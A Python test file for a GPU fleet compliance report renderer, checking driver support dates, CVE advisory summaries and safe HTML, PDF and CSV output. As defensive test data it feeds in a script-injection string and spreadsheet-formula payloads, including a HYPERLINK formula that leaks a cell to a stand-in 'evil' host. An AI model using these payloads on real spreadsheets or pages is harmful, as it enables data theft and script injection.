"""The report document on its own: edge cases the fleet test does not reach."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import subprocess
from datetime import UTC, datetime
from importlib import resources
from pathlib import Path

import jsonschema
import pytest

from fleet.catalog import default_catalog, load_catalog
from fleet.compliance import (
    NodeFacts,
    PreviousReport,
    SeenReport,
    report_document,
    schema_text,
)
from fleet.report import HealthReport
from server.report_render import render
from tests.simnode import report_doc

KEY_ID = "ab" * 32


def _validate(doc: object) -> None:
    jsonschema.Draft202012Validator(json.loads(schema_text())).validate(doc)


def test_an_empty_fleet_renders_in_every_format() -> None:
    doc = report_document("fleet", [], default_catalog(), 1_800_000_000, KEY_ID, "ed25519")
    _validate(doc)
    assert doc["summary"]["nodes"] == 0
    assert render(doc, "pdf").startswith(b"%PDF-")
    assert render(doc, "html").count(b"<svg") == 4
    assert doc["summary"]["advisories"]["bulletins"] == 6
    assert doc["summary"]["advisories"]["cves"] == []


def _node(driver: str) -> NodeFacts:
    report = HealthReport.from_dict(report_doc("n1", driver=driver, update="up-to-date"))
    return NodeFacts("n1", "default", "healthy", "unattested", False, 0, 0, None,
                     (SeenReport(0, report, None),))  # fmt: skip


def test_support_status_follows_the_catalog_month_by_month() -> None:
    # R580 is supported through June 2028: ending soon from January, ended in July.
    def status(day: str) -> str:
        at = int(datetime.fromisoformat(day).replace(tzinfo=UTC).timestamp())
        doc = report_document(
            "node", [_node("580.65.06")], default_catalog(), at, KEY_ID, "ed25519"
        )
        _validate(doc)
        return str(doc["nodes"][0]["driver"]["status"])

    assert status("2027-12-01") == "supported"
    assert status("2028-06-30") == "ending-soon"
    assert status("2028-07-01") == "ended"


def test_renderers_escape_what_nodes_send() -> None:
    report = HealthReport.from_dict(
        {**report_doc("n1", update="failed"), "reason": "<script>alert(1)</script>"}
    )
    node = NodeFacts("n1", "default", "healthy", "unattested", False, 0, 0, None,
                     (SeenReport(0, report, None),))  # fmt: skip
    doc = report_document("node", [node], default_catalog(), 1_800_000_000, KEY_ID, "ed25519")
    html = render(doc, "html")
    assert b"<script>" not in html
    assert b"&lt;script&gt;" in html
    assert render(doc, "pdf").startswith(b"%PDF-")


def test_advisories_open_on_each_node_and_in_the_fleet(tmp_path: Path) -> None:
    nodes = [
        dataclasses.replace(_node(driver), node_id=f"n{i}")
        for i, driver in enumerate(("535.216.03", "535.309.01", "550.163.01"))
    ]
    doc = report_document("fleet", nodes, default_catalog(), 1_800_000_000, KEY_ID, "ed25519")
    _validate(doc)
    old, fixed, unlisted = (n["advisories"] for n in doc["nodes"])
    assert old["status"] == "exposed" and old["worst"] == "high"
    assert old["fixed_by"] == "535.309.01"
    first = old["open"][0]
    assert first == {
        "cve": "CVE-2026-24187", "severity": "high", "score": 8.8, "status": "affected",
        "fixed": "535.309.01", "bulletin": "https://nvidia.custhelp.com/app/answers/detail/a_id/5821",
    }  # fmt: skip
    assert fixed == {"status": "none-open", "worst": None, "fixed_by": None, "open": []}
    assert unlisted["fixed_by"] is None
    assert {a["status"] for a in unlisted["open"]} == {"branch-not-listed"}
    summary = doc["summary"]["advisories"]
    assert (summary["exposed"], summary["none-open"], summary["unknown"]) == (2, 1, 0)
    assert summary["worst"] == {"critical": 0, "high": 2, "medium": 0, "low": 0}
    assert summary["cves"][0] == {
        "cve": "CVE-2026-24187", "severity": "high", "score": 8.8, "nodes": 2,
        "bulletin": "https://nvidia.custhelp.com/app/answers/detail/a_id/5821",
    }  # fmt: skip

    html = render(doc, "html").decode()
    assert "CVE-2026-24187" in html and "a_id/5821" in html
    assert "24 open, worst high" in html
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(render(doc, "pdf"))
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True)
    assert "CVE-2026-24187" in text.stdout and "535.309.01" in text.stdout


def test_a_catalog_without_a_feed_leaves_exposure_unknown() -> None:
    raw = json.loads(resources.files("fleet").joinpath("data/catalog.json").read_bytes())
    del raw["advisories"]
    catalog = load_catalog(json.dumps(raw).encode())
    doc = report_document("node", [_node("535.216.03")], catalog, 1_800_000_000, KEY_ID, "ed25519")
    _validate(doc)
    assert doc["nodes"][0]["advisories"]["status"] == "unknown"
    assert doc["summary"]["advisories"]["bulletins"] is None
    assert b"no security advisory feed" in render(doc, "html")


def test_the_evidence_file_keeps_each_node_on_its_own_row() -> None:
    # A bare carriage return is a line break to a CSV reader: unquoted, a node's
    # text would end its row early and shift every column after it.
    hostile = 'a\rb\nc "d", =e'
    report = HealthReport.from_dict(
        {**report_doc("n1", update="rolled-back"), "reason": hostile, "bundle": hostile}
    )
    node = NodeFacts("n1", hostile, "healthy", "unattested", False, 0, 0, None,
                     (SeenReport(0, report, None),))  # fmt: skip
    doc = report_document("fleet", [node, _node("580.65.06")], default_catalog(), 1_800_000_000,
                          KEY_ID, "ed25519")  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(render(doc, "csv").decode(), newline="")))
    assert [(r["Node"], r["Pool"]) for r in rows] == [("n1", hostile), ("n1", "default")]
    assert all(None not in r and None not in r.values() for r in rows)


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://evil/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
)
def test_the_evidence_file_keeps_a_nodes_formulas_as_text(formula: str) -> None:
    # Opened in a spreadsheet, a cell starting with = + - @ would run as a formula.
    report = HealthReport.from_dict(
        {**report_doc("n1", update="rolled-back"), "reason": formula, "bundle": formula}
    )
    node = NodeFacts("n1", formula, "healthy", "unattested", False, 0, 0, None,
                     (SeenReport(0, report, None),))  # fmt: skip
    doc = report_document("fleet", [node], default_catalog(), 1_800_000_000, KEY_ID, "ed25519")
    (row,) = csv.DictReader(io.StringIO(render(doc, "csv").decode(), newline=""))
    assert row["Pool"] == "'" + formula
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_the_trend_counts_each_control_against_the_previous_kept_report() -> None:
    catalog = default_catalog()
    before = report_document("fleet", [_node("470.256.02")], catalog, 1_800_000_000, KEY_ID,
                             "ed25519")  # fmt: skip
    assert before["trend"] == {"previous": None, "nodes": None, "controls": {}}
    # The previous summary as kept, with a control the policy did not have then.
    summary = json.loads(json.dumps(before["summary"]))
    del summary["controls"]["kernel-held"]
    previous = PreviousReport("r-1", 1_800_000_000, summary)
    after = report_document("fleet", [_node("580.65.06"), _node("580.65.06")], catalog,
                            1_800_086_400, KEY_ID, "ed25519", previous=previous)  # fmt: skip
    _validate(after)
    trend = after["trend"]
    assert trend["previous"] == {"report_id": "r-1", "generated_at": "2027-01-15T08:00:00Z"}
    assert trend["nodes"] == 1
    # The ended R470 driver failed; two nodes on R580 pass.
    assert trend["controls"]["driver-supported"] == {"pass": 2, "fail": -1, "unknown": 0}
    assert trend["controls"]["kernel-held"] is None
    html = render(after, "html").decode()
    assert "against report r-1 of 2027-01-15T08:00:00Z" in html
    assert "pass +2, fail -1, unknown +0" in html
    assert "not judged before" in html
